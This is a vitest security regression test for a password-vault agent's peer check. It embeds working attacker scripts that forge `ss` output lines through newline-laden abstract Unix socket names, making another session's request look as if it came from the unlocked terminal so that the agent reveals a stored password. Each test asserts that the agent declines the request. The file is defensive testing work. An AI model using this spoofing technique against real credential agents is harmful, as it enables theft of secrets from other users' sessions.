// Review round eleven, hole (class: the peer check trusts `ss` output that another process of the
// user writes into). agent-peer.ts reads `ss -xH` line by line and takes the first line whose
// third-last field is the agent's socket inode, its last field as the peer. A Unix socket's name
// is printed raw: an abstract name may hold a newline, so any process can print a whole line of
// its choosing ("u_str ESTAB 0 0 * <agent's inode> * <an inode a process of the unlocked terminal
// holds>"). A process in ANOTHER session (setsid: another tab, a cron job) learns the agent's inode
// from ss itself, binds a few such names, then sends its request: the agent takes the forged line,
// finds only processes of the unlocked terminal holding that inode, and serves the password.
// Real processes and sockets (no mock of ss); the secret is compared, never printed.
// FAILS on 70c7f83 (the password leaves). Kept as the reviewer wrote it (/tmp/review11-holes), with
// variants after it: the connecting socket's own name forging records (spaces, newlines, a line
// mimicking ss's header), names on one line without a newline, and the unlocked terminal's own
// command still served among many such names. Must never print the password.
import { spawn } from 'node:child_process';
import { readlinkSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { canTellPeers } from '../../electron/cli/agent-peer';
import { ENTRY_PASSWORD, holdInAgent, inAnotherTerminal, inThisTerminal, Vault, manualClock, newVault, OWNER, PASSWORD } from '../support/unlocked-agent';

const attacker = `
  const fs = require('node:fs'), net = require('node:net'), path = require('node:path'), cp = require('node:child_process');
  const dir = path.join(process.env.XDG_RUNTIME_DIR, 'crewvault');
  const sock = path.join(dir, fs.readdirSync(dir).find((n) => n.endsWith('.sock')));
  const victim = process.env.VICTIM_INODE;
  const inodeOf = (fd) => /socket:\\[(\\d+)\\]/.exec(fs.readlinkSync('/proc/self/fd/' + fd))[1];
  const keep = [];
  const s = net.createConnection(sock, () => {
    const mine = inodeOf(s._handle.fd);
    const rows = cp.execFileSync('ss', ['-xH'], { encoding: 'utf8' }).split('\\n').map((l) => l.trim().split(/\\s+/));
    const agentRow = rows.find((f) => f[f.length - 1] === mine);
    const ours = agentRow[agentRow.length - 3];
    let left = 64;
    for (let i = 0; i < 64; i += 1) {
      const name = '\\0r11-' + i + '\\nu_str ESTAB 0 0 * ' + ours + ' * ' + victim + '\\n';
      const server = net.createServer((c) => keep.push(c));
      keep.push(server);
      server.listen(name, () => {
        const c = net.createConnection(name, () => {
          keep.push(c);
          left -= 1;
          if (left === 0) setTimeout(() => s.write(JSON.stringify({ t: 'run', argv: ['show', 'Acme/Router', '--reveal', '--json'], cwd: '/', interactive: false }) + '\\n'), 50);
        });
      });
    }
  });
  let buf = '';
  s.on('data', (d) => { buf += d; });
  s.on('end', () => { process.stdout.write(buf); process.exit(0); });
  s.on('error', (e) => { process.stdout.write('error ' + e.code); process.exit(0); });`;

/**
 * A raw client that first binds `count` sockets under the abstract names `names(ours, victim, i)`
 * (a listener and a connection to it each), and one more listener named `own` (or none), then
 * asks the agent for the password. Prints what the agent answered.
 */
function forger(names: string, own: string | null, count: number): string {
  return `
  const fs = require('node:fs'), net = require('node:net'), path = require('node:path'), cp = require('node:child_process');
  const dir = path.join(process.env.XDG_RUNTIME_DIR, 'crewvault');
  const sock = path.join(dir, fs.readdirSync(dir).find((n) => n.endsWith('.sock')));
  const victim = process.env.VICTIM_INODE;
  const inodeOf = (fd) => /socket:\\[(\\d+)\\]/.exec(fs.readlinkSync('/proc/self/fd/' + fd))[1];
  const names = ${names};
  const keep = [];
  const ask = (s) => s.write(JSON.stringify({ t: 'run', argv: ['show', 'Acme/Router', '--reveal', '--json'], cwd: '/', interactive: false }) + '\\n');
  const s = new net.Socket();
  let buf = '';
  s.on('data', (d) => { buf += d; });
  s.on('end', () => { process.stdout.write(buf); process.exit(0); });
  s.on('error', (e) => { process.stdout.write('error ' + e.code); process.exit(0); });
  const connected = () => {
    const mine = inodeOf(s._handle.fd);
    const rows = cp.execFileSync('ss', ['-xH'], { encoding: 'utf8' }).split('\\n').map((l) => l.trim().split(/\\s+/));
    const agentRow = rows.find((f) => f[f.length - 1] === mine);
    const ours = agentRow ? agentRow[agentRow.length - 3] : '0';
    let left = ${count};
    if (left === 0) { ask(s); return; }
    for (let i = 0; i < ${count}; i += 1) {
      const name = names(ours, victim, i);
      const server = net.createServer((c) => keep.push(c));
      keep.push(server);
      server.listen(name, () => {
        const c = net.createConnection(name, () => { keep.push(c); left -= 1; if (left === 0) setTimeout(() => ask(s), 50); });
      });
    }
  };
  const own = ${JSON.stringify(own)};
  if (own === null) s.connect(sock, connected);
  else {
    // Node cannot bind a connecting socket to a name: the attacker's own process holds one more
    // listener under the forged name before it connects.
    const l = net.createServer((c) => keep.push(c));
    keep.push(l);
    l.listen(own, () => s.connect(sock, connected));
  }`;
}

const HEADER = 'Netid State Recv-Q Send-Q Local Address:Port Peer Address:Port';

describe.runIf(process.platform === 'linux')('HOLE r11-ss (class: forged ss lines pass the terminal check)', () => {
  it('a process in another session prints a line into ss naming a socket of the unlocked terminal as its peer, and is served the password', async () => {
    const clock = manualClock();
    const { file, session: owner } = await newVault(clock);
    await owner.createEntry({ customer: 'Acme', title: 'Router', username: 'admin', password: ENTRY_PASSWORD });
    owner.lock();
    const vault = Vault.open(file, clock);
    const session = await vault.signIn(OWNER, PASSWORD);
    const { env } = await holdInAgent(vault, file, session, clock);
    // Any long-running program in the unlocked terminal holding a Unix socket (here: a child whose
    // stdout libuv made a socketpair; in life an ssh, a tmux client, a dev server).
    const bystander = spawn(process.execPath, ['-e', 'setInterval(() => undefined, 1000)'], { stdio: ['ignore', 'pipe', 'ignore'] });
    try {
      await new Promise((resolve) => bystander.once('spawn', resolve));
      const victim = /socket:\[(\d+)\]/.exec(readlinkSync(`/proc/${bystander.pid}/fd/1`))?.[1];
      expect(victim, 'the bystander holds a socket').toBeDefined();
      const got = await inAnotherTerminal(attacker, { ...env, VICTIM_INODE: victim ?? '' });
      expect(got.includes(ENTRY_PASSWORD), 'the password left the agent for another session').toBe(false);
      expect(got).toContain('"t":"declined"');
    } finally {
      bystander.kill();
    }
  }, 30_000);
});

describe.runIf(process.platform === 'linux')('the agent reads only what ss prints itself, whatever the names (review round eleven, variants)', () => {
  async function withAgent(test: (env: NodeJS.ProcessEnv, victim: string) => Promise<void>): Promise<void> {
    const clock = manualClock();
    const { file, session: owner } = await newVault(clock);
    await owner.createEntry({ customer: 'Acme', title: 'Router', username: 'admin', password: ENTRY_PASSWORD });
    owner.lock();
    const vault = Vault.open(file, clock);
    const session = await vault.signIn(OWNER, PASSWORD);
    const { env } = await holdInAgent(vault, file, session, clock);
    const bystander = spawn(process.execPath, ['-e', 'setInterval(() => undefined, 1000)'], { stdio: ['ignore', 'pipe', 'ignore'] });
    try {
      await new Promise((resolve) => bystander.once('spawn', resolve));
      const victim = /socket:\[(\d+)\]/.exec(readlinkSync(`/proc/${bystander.pid}/fd/1`))?.[1];
      expect(victim, 'the bystander holds a socket').toBeDefined();
      await test(env, victim ?? '');
    } finally {
      bystander.kill();
    }
  }

  it('names repeating the agent\'s inode: with spaces on one line, after a line mimicking ss\'s header, the attacker\'s own listener named as header and record: declined', async () => {
    await withAgent(async (env, victim) => {
      const names = `(ours, victim, i) => ['\\0a' + i + ' ' + ours + ' * ' + victim, '\\0b' + i + ' * ' + victim + ' * ' + ours, '\\0c' + i + ' ${HEADER}\\nu_str ESTAB 0 0 * ' + ours + ' * ' + victim + '\\n', '\\0d' + i + '\\n' + ours + ' * ' + victim + ' *'][i % 4]`;
      const own = `\0${HEADER}\nu_str ESTAB 0 0 * ${victim} *`;
      const got = await inAnotherTerminal(forger(names, own, 64), { ...env, VICTIM_INODE: victim });
      expect(got.includes(ENTRY_PASSWORD), 'the password left the agent for another session').toBe(false);
      expect(got).toContain('"t":"declined"');
    });
  }, 30_000);

  it('names that never repeat the agent\'s inode but forge whole records naming the victim, 200 of them: declined', async () => {
    await withAgent(async (env, victim) => {
      const names = `(ours, victim, i) => '\\0e' + i + '\\nu_str ESTAB 0 0 * ' + victim + ' * ' + victim + '\\nu_str ESTAB 0 0 * 1' + i + ' * ' + victim + '\\n'`;
      const got = await inAnotherTerminal(forger(names, null, 200), { ...env, VICTIM_INODE: victim });
      expect(got.includes(ENTRY_PASSWORD), 'the password left the agent for another session').toBe(false);
      expect(got).toContain('"t":"declined"');
    });
  }, 30_000);

  it('the unlocked terminal\'s own request is still served among 64 sockets named with spaces, newlines and ss\'s header', async () => {
    await withAgent(async (env, victim) => {
      const names = `(ours, victim, i) => '\\0f' + i + ' ${HEADER}\\nu_str ESTAB 0 0 * ' + victim + ' * 7\\n * ' + i + ' *'`;
      const got = await inThisTerminal(forger(names, `\0g ${HEADER}\n* 1 * 2`, 64), { ...env, VICTIM_INODE: victim });
      expect(got).not.toContain('"t":"declined"');
      expect(got.includes(ENTRY_PASSWORD), 'the terminal that unlocked was not served').toBe(true);
    });
  }, 30_000);
});

describe.runIf(process.platform === 'linux')('crewvault unlock asks first whether this system can tell who asks (review round eleven, low)', () => {
  it('its own connection comes out as its own session with the real ss; with no ss program it cannot tell, and unlock would refuse to start', async () => {
    expect(await canTellPeers()).toBe(true);
    expect(await canTellPeers('/nonexistent/crewvault-test/ss')).toBe(false);
  }, 30_000);
});
